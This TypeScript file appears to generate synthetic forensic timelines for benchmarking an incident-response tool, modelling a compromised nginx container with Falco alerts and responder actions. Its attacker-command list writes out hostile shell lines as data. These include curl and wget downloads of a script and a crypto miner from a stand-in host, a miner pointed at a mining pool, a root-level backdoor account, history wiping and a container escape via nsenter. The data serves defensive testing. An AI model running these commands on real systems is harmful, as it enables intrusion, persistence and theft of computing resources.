// Synthetic incident timelines for bench:timeline: event i is a pure function of (seed, i), so every run and every
// page size yields the same million events. Shaped like a real case: a busy web container's syscall noise (file
// opens, accepts from clients) with bursts and lulls, and inside it an attacker's session — shell, downloads, a
// miner, account and SSH-key changes, history wiping — plus Falco alerts, diff entries and the responder's actions.
import type { TimelineEvent } from '../src/forensics/common/timeline-model.js';

/** 2026-11-22T21:00:00Z in nanoseconds. */
const BASE_NS = 1_795_381_200_000_000_000n;
const SEGMENT = 50_000;
const CONTAINER = '4f1c2a9be0d34c7e8a1b2c3d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f50617';
const TRACE_SHA = 'c0ffee'.padEnd(64, '0');

/** mulberry32 on a 32-bit mix of the inputs: fast, deterministic, good enough for shaping test data. */
function random(seed: number, index: number, salt: number): number {
  let t = (Math.imul(index ^ 0x9e3779b9, 0x85ebca6b) ^ Math.imul(seed + salt, 0xc2b2ae35)) >>> 0;
  t = (t + 0x6d2b79f5) >>> 0;
  t = Math.imul(t ^ (t >>> 15), t | 1);
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}

function pick<T>(items: readonly T[], r: number): T {
  return items[Math.floor(r * items.length) % items.length] as T;
}

const hex = (seed: number, index: number, length: number): string => {
  let out = '';
  for (let salt = 0; out.length < length; salt += 1)
    out += Math.floor(random(seed, index, 1000 + salt) * 0x100000000)
      .toString(16)
      .padStart(8, '0');
  return out.slice(0, length);
};

/** Per-segment nanoseconds between events: bursts (0.2 ms) and lulls (40 ms), fixed by the seed. */
function segmentSteps(seed: number, total: number): bigint[] {
  const steps: bigint[] = [];
  for (let segment = 0; segment * SEGMENT < total; segment += 1) {
    const r = random(seed, segment, 7);
    steps.push(BigInt(Math.round((r < 0.2 ? 200_000 : r < 0.8 ? 4_000_000 : 40_000_000) * (0.5 + r))));
  }
  return steps;
}

const ATTACKER_COMMANDS: readonly [string, string[]][] = [
  ['/bin/sh -c id', ['T1059.004']],
  ['/bin/bash -i', ['T1059.004']],
  ['curl -fsSL http://203.0.113.7/x.sh -o /tmp/.x/x.sh', ['T1105']],
  ['wget -q http://203.0.113.7/xmrig -O /tmp/.x/kworker', ['T1105']],
  ['chmod +x /tmp/.x/kworker', ['T1222.002']],
  ['/tmp/.x/kworker -o stratum+tcp://pool.example.net:3333', ['T1496']],
  ['crontab /tmp/.x/cron', ['T1053.003']],
  ['useradd -o -u 0 backup2', ['T1136.001']],
  ['rm -f /root/.bash_history', ['T1070.003']],
  ['nsenter -t 1 -m -u -n -i sh', ['T1611']],
];
const ATTACKER_WRITES: readonly [string, string[]][] = [
  ['/etc/passwd', ['T1098']],
  ['/etc/shadow', ['T1098']],
  ['/root/.ssh/authorized_keys', ['T1098.004']],
  ['/etc/cron.d/sync', ['T1053.003']],
  ['/tmp/.x/x.sh', []],
];
const WEB_FILES = [
  '/var/www/html/index.php',
  '/var/www/html/login.php',
  '/usr/share/nginx/html/app.js',
  '/etc/nginx/mime.types',
];
const CLIENTS = ['198.51.100.23', '198.51.100.41', '192.0.2.10', '192.0.2.77', '203.0.113.200'];
const FALCO_RULES: readonly [string, string[]][] = [
  ['Terminal shell in container', ['T1059.004']],
  ['Write below etc', ['T1098']],
  ['Detect crypto miners using the Stratum protocol', ['T1496']],
  ['Clear log activities', ['T1070']],
];

function nsToIso(tns: bigint): string {
  const seconds = tns / 1_000_000_000n;
  const fraction = (tns % 1_000_000_000n).toString().padStart(9, '0');
  return `${new Date(Number(seconds) * 1000).toISOString().slice(0, 19)}.${fraction}Z`;
}

export class SyntheticTimeline {
  private readonly steps: bigint[];
  private readonly starts: bigint[];

  constructor(
    readonly total: number,
    readonly seed = 6,
  ) {
    this.steps = segmentSteps(seed, total);
    this.starts = [];
    let at = BASE_NS;
    for (const step of this.steps) {
      this.starts.push(at);
      at += step * BigInt(SEGMENT);
    }
  }

  /** Event i: its instant grows with i (the merge order), its content is drawn from (seed, i). */
  event(index: number): TimelineEvent {
    const seed = this.seed;
    const segment = Math.floor(index / SEGMENT);
    const step = this.steps[segment] as bigint;
    const jitter = BigInt(Math.floor(random(seed, index, 1) * Number(step) * 0.9));
    const tns = (this.starts[segment] as bigint) + BigInt(index - segment * SEGMENT) * step + jitter;
    const r = random(seed, index, 2);
    const pid = 100 + Math.floor(random(seed, index, 3) * 40);
    const common = {
      id: hex(seed, index, 24),
      tns: tns.toString(),
      at: nsToIso(tns),
      attributes: {} as Record<string, string | number | boolean | null>,
      confidence: 'exact' as const,
      evidence: { itemId: 'trace-0001', sha256: TRACE_SHA, locator: `seq ${index}` },
    };
    const engine = { engineId: 'default', containerId: CONTAINER };
    if (index === 0)
      return {
        ...common,
        source: 'engine',
        kind: 'container.created',
        subject: engine,
        summary: 'container web-1 created from nginx:1.27',
        techniques: [],
        evidence: { ...common.evidence, itemId: 'inspect-0001', locator: 'Created' },
      };
    if (r < 0.62) {
      const path = pick(WEB_FILES, random(seed, index, 4));
      return {
        ...common,
        source: 'syscall',
        kind: 'file.open',
        subject: { ...engine, pid, process: 'nginx: worker process', path },
        summary: `nginx opened ${path} (O_RDONLY)`,
        attributes: { syscall: 'openat', result: 3 },
        techniques: [],
        replaySeq: index,
      };
    }
    if (r < 0.8) {
      const address = pick(CLIENTS, random(seed, index, 5));
      return {
        ...common,
        source: 'syscall',
        kind: 'network.accept',
        subject: { ...engine, pid, process: 'nginx: worker process', address, port: 443 },
        summary: `nginx accepted ${address}:${40000 + (index % 20000)} on :443`,
        attributes: { syscall: 'accept4', result: 7 },
        techniques: [],
        replaySeq: index,
      };
    }
    if (r < 0.86) {
      const [command, techniques] = pick(ATTACKER_COMMANDS, random(seed, index, 6));
      return {
        ...common,
        source: 'syscall',
        kind: 'process.exec',
        subject: { ...engine, pid: 4000 + (index % 500), process: command },
        summary: `exec ${command}`,
        attributes: { syscall: 'execve', uid: 0 },
        techniques,
        replaySeq: index,
      };
    }
    if (r < 0.9) {
      const address = random(seed, index, 8) < 0.5 ? '203.0.113.7' : '198.18.0.99';
      return {
        ...common,
        source: 'syscall',
        kind: 'network.connect',
        subject: {
          ...engine,
          pid: 4000 + (index % 500),
          process: 'curl -fsSL http://203.0.113.7/x.sh',
          address,
          port: address === '203.0.113.7' ? 80 : 3333,
        },
        summary: `connect ${address}`,
        attributes: { syscall: 'connect', result: 'ok' },
        techniques: address === '203.0.113.7' ? ['T1105'] : ['T1496'],
        replaySeq: index,
      };
    }
    if (r < 0.94) {
      const [path, techniques] = pick(ATTACKER_WRITES, random(seed, index, 9));
      return {
        ...common,
        source: 'syscall',
        kind: 'file.write',
        subject: { ...engine, pid: 4000 + (index % 500), process: '/bin/bash -i', path },
        summary: `bash wrote ${path}`,
        attributes: { syscall: 'write', bytes: 64 + (index % 4000) },
        techniques,
        replaySeq: index,
      };
    }
    if (r < 0.97) {
      const [rule, techniques] = pick(FALCO_RULES, random(seed, index, 10));
      return {
        ...common,
        source: 'falco',
        kind: 'alert',
        subject: { ...engine, pid: 4000 + (index % 500), process: '/bin/bash -i' },
        summary: `${rule} (user=root command=bash -i)`,
        attributes: { rule, priority: 'Warning' },
        techniques,
      };
    }
    if (r < 0.995) {
      const [path, techniques] = pick(ATTACKER_WRITES, random(seed, index, 11));
      return {
        ...common,
        source: 'filesystem',
        kind: 'file.modified',
        subject: { ...engine, path },
        summary: `${path} modified (mtime)`,
        attributes: { change: 'modified' },
        techniques,
        confidence: 'approximate',
        evidence: { itemId: 'export-0001', sha256: TRACE_SHA, locator: `path ${path.slice(1)}` },
      };
    }
    const action = pick(['isolate', 'snapshot', 'capture.start', 'capture.stop'], random(seed, index, 12));
    return {
      ...common,
      source: 'custody',
      kind: `responder.${action}`,
      subject: engine,
      summary: `responder ${action} web-1`,
      attributes: { operator: 'ir-oncall' },
      techniques: [],
      evidence: { itemId: 'custody', sha256: TRACE_SHA, locator: `record ${index}` },
    };
  }

  page(offset: number, limit: number): TimelineEvent[] {
    const events: TimelineEvent[] = [];
    for (let index = offset; index < Math.min(this.total, offset + limit); index += 1) events.push(this.event(index));
    return events;
  }
}
